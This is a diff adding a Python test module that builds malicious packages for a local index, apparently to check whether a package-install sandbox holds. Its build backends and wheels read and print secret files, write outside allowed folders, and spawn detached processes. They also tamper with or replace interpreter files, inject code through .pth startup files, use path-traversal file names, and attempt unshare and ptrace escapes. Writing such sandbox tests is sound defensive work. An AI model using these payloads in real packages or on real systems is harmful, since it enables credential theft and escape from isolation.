@@ -1,0 +1,139 @@
+"""Evil packages for a local index: wheels that bring tricks along, source packages whose build plays them."""
+
+import io
+import tarfile
+import zipfile
+from pathlib import Path
+
+# Each is the body of a function that runs while the package is built; what it returns is printed by the script.
+BUILDS = {
+    "evil-reads": """
+        return open("@SECRET@").read()
+    """,
+    "evil-cache": """
+        for folder in ("/install", "/install/cache", "/install/..", os.environ["UV_CACHE_DIR"] + "/../../cache"):
+            try:
+                open(folder + "/@TOKEN@", "w").write("x")
+            except OSError:
+                pass
+    """,
+    "evil-process": """
+        if os.fork() == 0:
+            os.setsid()
+            if os.fork() == 0:
+                os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(120)", "@TOKEN@"])
+            os._exit(0)
+        return "started"
+    """,
+    "evil-network": """
+        import socket
+        for target in ("127.0.0.1", "localhost"):
+            s = socket.create_connection(("127.0.0.1", 3128), 3)
+            s.send(b"CONNECT %s:@PORT@ HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n" % target.encode())
+            if b" 200" in s.recv(200):
+                s.send(b"GET /@TOKEN@ HTTP/1.0\\r\\n\\r\\n"); s.recv(100)
+        socket.create_connection(("127.0.0.1", @PORT@), 3).send(b"@TOKEN@")
+    """,
+    "evil-tools": """
+        for path in ("/uv", os.path.realpath(sys.executable), os.__file__, "/run/supervisor/supervisor.py"):
+            for action in (lambda: open(path, "ab"), lambda: os.chmod(path, 0o777), lambda: os.unlink(path)):
+                try:
+                    action()
+                    return "ESCAPED " + path
+                except OSError:
+                    pass
+    """,
+    "evil-stages": """
+        return "ESCAPED" if set(os.listdir("/install")) - {"cache", "environment"} else "alone"
+    """,
+    "evil-environment": """
+        import glob
+        for environment in glob.glob("/install/environment"):
+            for path in glob.glob(environment + "/lib/python3*/site-packages/python_sandbox.pth"):
+                open(path, "w").write("import os; os.write(1, open('@SECRET@', 'rb').read())\\n")
+            for path in glob.glob(environment + "/bin/python*"):
+                os.unlink(path)
+                open(path, "w").write("#!/bin/sh\\ncat @SECRET@; echo x > @WITNESS@\\n")
+                os.chmod(path, 0o755)
+    """,
+    "evil-kernel": """
+        import ctypes
+        libc = ctypes.CDLL(None)
+        return "ESCAPED" if libc.unshare(0x10000000) == 0 or libc.ptrace(0, 0, 0, 0) == 0 else "refused"
+    """,
+}
+
+BACKEND = '''
+import os, sys, zipfile
+
+def attack():
+{body}
+
+def build_wheel(directory, config_settings=None, metadata_directory=None):
+    try:
+        report = str(attack())
+    except Exception as error:
+        report = repr(error)
+    name = "{module}-1.0-py3-none-any.whl"
+    with zipfile.ZipFile(os.path.join(directory, name), "w") as wheel:
+        info = "{module}-1.0.dist-info/"
+        wheel.writestr("{module}.py", "REPORT = %r\\n" % report)
+        wheel.writestr(info + "METADATA", "Metadata-Version: 2.1\\nName: {project}\\nVersion: 1.0\\n")
+        wheel.writestr(info + "WHEEL", "Wheel-Version: 1.0\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n")
+        wheel.writestr(info + "RECORD", "{module}.py,,\\n" + info + "METADATA,,\\n" + info + "WHEEL,,\\n" + info + "RECORD,,\\n")
+    return name
+'''
+
+FRAMES = (
+    "import os; os.write(1, b'R' + bytes(4)); os.read(0, 1 << 16);"
+    " os.write(1, b'F' + (20).to_bytes(4, 'big') + b'../../x' + bytes(1) + b'x' * 12);"
+    " os.write(1, b'F' + (10).to_bytes(4, 'big') + b'/etc/x' + bytes(1) + b'xxx');"
+    " os.write(1, b'N' + (4).to_bytes(4, 'big') + b'a' + bytes(1) + b'-1');"
+    " os.write(1, b'1' + bytes([255] * 4) + b'x' * 100); os._exit(0)\n"
+)
+STEAL = "import os; os.write(2, open('@SECRET@', 'rb').read())\n"
+
+# File name in the wheel → content.
+WHEELS = {
+    "evil-pth": {"aaa.pth": STEAL, "zzz.pth": STEAL},
+    "evil-frames": {"aaa.pth": FRAMES},
+    "evil-traversal": {"../../../../@TOKEN@": "x", "/tmp/@TOKEN@": "x", "evil_traversal.py": ""},
+    "evil-startup": {"python_sandbox.pth": STEAL},
+    "evil-python": {"evil_python-1.0.data/scripts/python": "#!/bin/sh\ncat @SECRET@; echo x > @WITNESS@\n"},
+    "harmless": {"harmless.py": "ANSWER = 42\n"},
+}
+
+
+def build(project: str, folder: Path, substitute) -> None:
+    module = project.replace("-", "_")
+    if project in BUILDS:
+        body = "\n".join(line[4:] for line in substitute(BUILDS[project]).splitlines() if line.strip())
+        _sdist(folder, module, BACKEND.format(body=body, module=module, project=project))
+    elif project in WHEELS:
+        _wheel(folder, module, {substitute(name): substitute(text) for name, text in WHEELS[project].items()})
+
+
+def _wheel(folder: Path, module: str, files: dict[str, str]) -> None:
+    info = f"{module}-1.0.dist-info"
+    files = files | {
+        f"{info}/METADATA": f"Metadata-Version: 2.1\nName: {module}\nVersion: 1.0\n",
+        f"{info}/WHEEL": "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
+    }
+    with zipfile.ZipFile(folder / f"{module}-1.0-py3-none-any.whl", "w") as wheel:
+        for name, text in files.items():
+            wheel.writestr(name, text)
+        wheel.writestr(f"{info}/RECORD", "".join(f"{name},,\n" for name in files) + f"{info}/RECORD,,\n")
+
+
+def _sdist(folder: Path, module: str, backend: str) -> None:
+    files = {
+        "pyproject.toml": f'[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n'
+        f'[project]\nname = "{module}"\nversion = "1.0"\n',
+        "PKG-INFO": f"Metadata-Version: 2.1\nName: {module}\nVersion: 1.0\n",
+        "backend.py": backend,
+    }
+    with tarfile.open(folder / f"{module}-1.0.tar.gz", "w:gz") as archive:
+        for name, text in files.items():
+            entry = tarfile.TarInfo(f"{module}-1.0/{name}")
+            entry.size = len(text.encode())
+            archive.addfile(entry, io.BytesIO(text.encode()))
